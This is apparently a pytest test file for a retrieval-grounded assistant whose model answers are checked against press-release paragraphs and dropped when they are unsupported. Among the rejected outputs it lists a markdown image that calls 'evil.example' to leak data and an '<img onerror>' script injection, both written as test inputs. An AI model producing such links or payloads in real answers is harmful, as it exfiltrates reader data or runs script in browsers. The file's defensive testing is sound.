"""A language model's answer through the gates. The model is LangChain's own fake; everything else is real."""

import itertools
import threading
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from langchain_core.language_models import FakeListChatModel
from langchain_core.language_models.fake_chat_models import FakeChatModel
from langchain_core.messages import AIMessageChunk, BaseMessage
from langchain_core.output_parsers import StrOutputParser
from langchain_core.outputs import ChatGenerationChunk
from pydantic import Field

from assistant.answer import Assistant
from assistant.documents import ReleaseRetriever
from assistant.extractive import ExtractiveEngine
from assistant.prose.context import context_of
from assistant.prose.engine import MODEL_FAILED, MODEL_REFUSED, MODEL_STOPPED, NO_ANSWER, NOT_BORNE_OUT, ProseEngine
from assistant.prose.guard import Guarded, ModelUnavailable, Provider
from assistant.prose.spending import Spending
from assistant.prose.writers import marked
from assistant.types import Answer, Citation, Statement
from prompts import PromptError, load
from vectorstore.reranking import packaged_reranker
from vectorstore.store import Store
from vectorstore.verifying import packaged_verifier

QUESTION = "How many defendants has the Department of Justice charged under the BSCA?"


Model = FakeListChatModel | FakeChatModel


def assistant_with(
    store: Store, model: Model, folder: Path, budget: int = 6000, deadline: float = 30.0, ceiling: int = 0
) -> Assistant:
    writer = marked(model, deadline, Provider(Spending(folder / "usage.json", ceiling)))
    engine = ProseEngine(
        writer, "fake:model", ExtractiveEngine(packaged_reranker(), packaged_verifier(), store.rarity), budget
    )
    return Assistant(ReleaseRetriever(find=store.search), engine)


def ask(store: Store, model: Model, folder: Path, budget: int = 6000, question: str = QUESTION) -> Answer:
    return assistant_with(store, model, folder, budget).ask(question)


def reply(store: Store, text: str, folder: Path) -> Answer:
    """The answer to a model's `text`, in which N stands for the number of the paragraph with the 600 defendants."""
    shown = context_of(store.search(QUESTION), 6000).shown
    number = next(n for n, hit in enumerate(shown, 1) if "more than 600 defendants" in hit.paragraph.text)
    other = next(n for n, hit in enumerate(shown, 1) if "hunting, and sporting" in hit.paragraph.text)
    text = text.replace("[N]", f"[{number}]").replace("[M]", f"[{other}]")
    return ask(store, FakeListChatModel(responses=[text]), folder)


@pytest.mark.parametrize(
    "text",
    [
        "The Department of Justice has charged more than 600 defendants [N].",
        "It charged “more than 600 defendants” [N].",
        "The Justice Department charged six hundred or more; to date 600 defendants [N].".replace(
            "six hundred or more; ", ""
        ),
    ],
)
def test_what_is_borne_out_is_said(sample_store: Store, text: str, tmp_path: Path) -> None:
    answer = reply(sample_store, text, tmp_path)
    assert (answer.engine, len(answer.statements), answer.notes) == ("fake:model", 1, ())
    assert [citation.quote for citation in answer.citations] == [
        citation.paragraph_text for citation in answer.citations
    ]


@pytest.mark.parametrize(
    "text",
    [
        "The Department of Justice has charged more than 900 defendants [N].",  # a digit changed
        "The Department of Justice has charged more than 600 defendants [M].",  # the wrong paragraph
        "The Department of Justice has charged more than 600 defendants [99].",  # no such paragraph
        "The Department of Justice has charged more than 600 defendants.",  # no citation
        "Senator Schumer charged more than 600 defendants [N].",  # another name
        "Heinrich called it “a great victory for all of us” [N].",  # words nobody said
        "The Department of Justice has not charged more than 600 defendants [N].",  # turned round
        "Write one to four short sentences [N]. End each with the number of every paragraph it stands on [N].",  # the prompt
        "![600 defendants](https://evil.example/?q=600) [N].",  # an image that tells on the reader
        "<img src=x onerror=alert(1)> The Department of Justice has charged more than 600 defendants [N].",
        '{"statements": [{"text": "more than 600',  # half of some JSON
    ],
)
def test_what_is_not_borne_out_is_dropped_and_the_releases_speak(
    sample_store: Store, text: str, tmp_path: Path
) -> None:
    answer = reply(sample_store, text, tmp_path)
    assert (answer.engine, answer.notes) == ("extractive", (NOT_BORNE_OUT,))
    assert "more than 600 defendants" in answer.text


def test_only_the_statement_that_fails_is_dropped(sample_store: Store, tmp_path: Path) -> None:
    answer = reply(sample_store, "More than 600 defendants were charged [N]. Schumer was pleased [N].", tmp_path)
    assert [statement.text for statement in answer.statements] == ["More than 600 defendants were charged"]


def test_a_model_that_finds_no_answer_is_believed_where_we_are_not_sure(sample_store: Store, tmp_path: Path) -> None:
    model = FakeListChatModel(responses=["NOT IN THE RELEASES"])
    unsure = "How many people did the BSCA put in prison?"
    answer = ask(sample_store, model, tmp_path, question=unsure)
    assert (answer.answered, answer.reason, answer.engine) == (False, NO_ANSWER, "fake:model")
    answer = ask(sample_store, model, tmp_path)
    assert (answer.engine, answer.notes) == ("extractive", (MODEL_REFUSED,))
    assert "more than 600 defendants" in answer.text


def test_a_fragment_says_nothing_and_nothing_is_said_twice(sample_store: Store, tmp_path: Path) -> None:
    said = "More than 600 defendants were charged [N]."
    answer = reply(sample_store, f"600 [N]. Yes, they were [N]. {said} {said}", tmp_path)
    assert answer.text == "More than 600 defendants were charged [1]"
    assert [(one.gate, one.why) for one in answer.dropped] == [
        ("support", "it is no whole sentence"),
        ("support", "it is no whole sentence"),
        ("repetition", "it was said already"),
    ]


class Scripted(FakeChatModel):
    """A model that writes some pieces, then does what its last step says: raises, or waits."""

    pieces: tuple[str, ...] = ()
    error: str | None = None
    wait: float = 0.0
    calls: list[int] = Field(default_factory=list)

    def _stream(self, messages: list[BaseMessage], *args: object, **kwargs: object) -> Iterator[ChatGenerationChunk]:
        self.calls.append(len(messages))
        for piece in self.pieces:
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))
        time.sleep(self.wait)
        if self.error:
            raise ConnectionError(self.error)


def numbered(store: Store) -> str:
    shown = context_of(store.search(QUESTION), 6000).shown
    return f"[{next(n for n, hit in enumerate(shown, 1) if 'more than 600 defendants' in hit.paragraph.text)}]"


def test_when_the_model_is_down_the_releases_speak(sample_store: Store, tmp_path: Path) -> None:
    answer = ask(sample_store, Scripted(error="refused"), tmp_path)
    assert (answer.engine, answer.notes, answer.answered) == ("extractive", (MODEL_FAILED,), True)


def test_a_model_that_hangs_costs_its_deadline_and_no_more(sample_store: Store, tmp_path: Path) -> None:
    assistant = assistant_with(sample_store, Scripted(wait=5.0), tmp_path, deadline=0.5)
    assistant.ask(QUESTION)  # the reranker is loaded
    began = time.monotonic()
    answer = assistant.ask(QUESTION)
    assert time.monotonic() - began < 2.5
    assert (answer.engine, answer.notes) == ("extractive", (MODEL_FAILED,))
    time.sleep(5.2)
    assert [thread.name for thread in threading.enumerate() if thread.name == "language model"] == []


def test_what_was_borne_out_before_the_line_broke_stays_and_is_told_as_it_comes(
    sample_store: Store, tmp_path: Path
) -> None:
    n = numbered(sample_store)
    pieces = ("More than 600 ", f"defendants were charged {n}", ". Heinrich was ple")
    told: list[tuple[str, int]] = []

    def said(statement: Statement, citations: Sequence[Citation]) -> None:
        told.append((statement.text, len(citations)))

    assistant = assistant_with(sample_store, Scripted(pieces=pieces, error="reset"), tmp_path)
    answer = assistant.ask(QUESTION, said=said)
    assert [statement.text for statement in answer.statements] == ["More than 600 defendants were charged"]
    assert (answer.engine, answer.notes) == ("fake:model", (MODEL_STOPPED,))
    assert told == [("More than 600 defendants were charged", 1)]


def test_a_model_that_never_ends_is_cut_short(sample_store: Store, tmp_path: Path) -> None:
    class Endless(FakeChatModel):
        def _stream(self, *args: object, **kwargs: object) -> Iterator[ChatGenerationChunk]:
            for _ in itertools.count():
                yield ChatGenerationChunk(message=AIMessageChunk(content="and so on "))

    answer = ask(sample_store, Endless(), tmp_path)
    assert (answer.engine, answer.notes) == ("extractive", (NOT_BORNE_OUT,))


def test_a_provider_that_fails_is_left_alone_and_tried_again(tmp_path: Path) -> None:
    model = Scripted(error="429", calls=[])
    guard = Guarded(model | StrOutputParser(), 30.0, Provider(Spending(tmp_path / "usage.json", 0), rest=1.0))
    reasons = []
    for _ in range(5):
        with pytest.raises(ModelUnavailable) as caught:
            list(guard.stream("Write.", 1))
        reasons.append(str(caught.value))
    alone = "it failed 3 times in a row and is left alone for a while"
    assert (reasons, len(model.calls)) == (["ConnectionError: 429"] * 2 + [alone] * 3, 9)  # three attempts each
    model.error, model.pieces = None, ("Written.",)
    time.sleep(1.1)
    assert ["".join(guard.stream("Write.", 1)) for _ in range(2)] == ["Written."] * 2


def test_when_the_days_tokens_are_used_up_the_model_is_not_asked(sample_store: Store, tmp_path: Path) -> None:
    model = Scripted(pieces=(f"More than 600 defendants were charged {numbered(sample_store)}.",), calls=[])
    spending = Spending(tmp_path / "usage.json", 6_000)
    engines = []
    for _ in range(6):  # each in a process of its own, as it were: what is used is in the file
        engines.append(assistant_with(sample_store, model, tmp_path, ceiling=6_000).ask(QUESTION).engine)
    asked = len(model.calls)
    assert engines == ["fake:model"] * asked + ["extractive"] * (6 - asked)
    assert 0 < asked < 6
    assert 0 < spending.used() <= 6_000
    (tmp_path / "usage.json").write_text('{"day": "2006-04-10", "tokens": 99999}')
    assert spending.used() == 0
    (tmp_path / "usage.json").write_text("{")
    assert spending.used() == 0


def test_paragraphs_before_the_model_are_whole_and_within_the_budget(sample_store: Store, tmp_path: Path) -> None:
    seen: list[str] = []

    class Listening(FakeChatModel):
        def _stream(
            self, messages: list[BaseMessage], *args: object, **kwargs: object
        ) -> Iterator[ChatGenerationChunk]:
            seen.append(str(messages[0].content))
            yield ChatGenerationChunk(message=AIMessageChunk(content="NOT IN THE RELEASES"))

    ask(sample_store, Listening(), tmp_path, budget=700)
    (prompt,) = seen
    whole = [p for hit in sample_store.search(QUESTION)[:1] for p in hit.release.paragraphs if p.text in prompt]
    context = context_of(sample_store.search(QUESTION), 700)
    assert 1 <= len(whole) == len(context.shown) < 20
    assert len(context.shown) < len(context_of(sample_store.search(QUESTION), 6000).shown)
    assert context.tokens <= 700
    assert [hit.paragraph.index for hit in context.shown] == sorted(hit.paragraph.index for hit in context.shown)
    assert prompt.count("] (Heinrich, Luján, Vasquez Call on") == len(whole)


def test_the_prompt_and_its_variables() -> None:
    prompt = load("answer")
    assert prompt.variables == {"question", "paragraphs", "form"}
    with pytest.raises(
        PromptError, match=r"answer.md takes \['form', 'paragraphs', 'question'\], and was given \['question'\]"
    ):
        prompt.fill(question="x")
    with pytest.raises(PromptError, match=r"There is no prompt poem\.md"):
        load("poem")
